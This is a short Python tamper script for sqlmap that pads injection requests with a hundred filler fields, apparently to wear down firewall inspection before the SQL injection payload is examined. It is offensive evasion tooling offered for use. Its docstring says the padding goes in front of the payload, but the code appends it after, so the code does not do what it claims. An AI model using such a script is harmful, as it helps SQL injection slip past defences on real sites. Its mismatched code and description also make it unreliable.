"""A tamper script for sqlmap: many harmless fields in front of the payload's own (with --skip-urlencode and a body or query that
takes them), so that inspection of the whole request costs time before the payload is reached."""

from lib.core.enums import PRIORITY

__priority__ = PRIORITY.LOWEST

FIELD = "the%20garden%20is%20open%20from%20nine%20until%20six%20"


def tamper(payload, **kwargs):
    if not payload:
        return payload
    return payload + "".join(f"&note{i}={FIELD * 20}" for i in range(100))
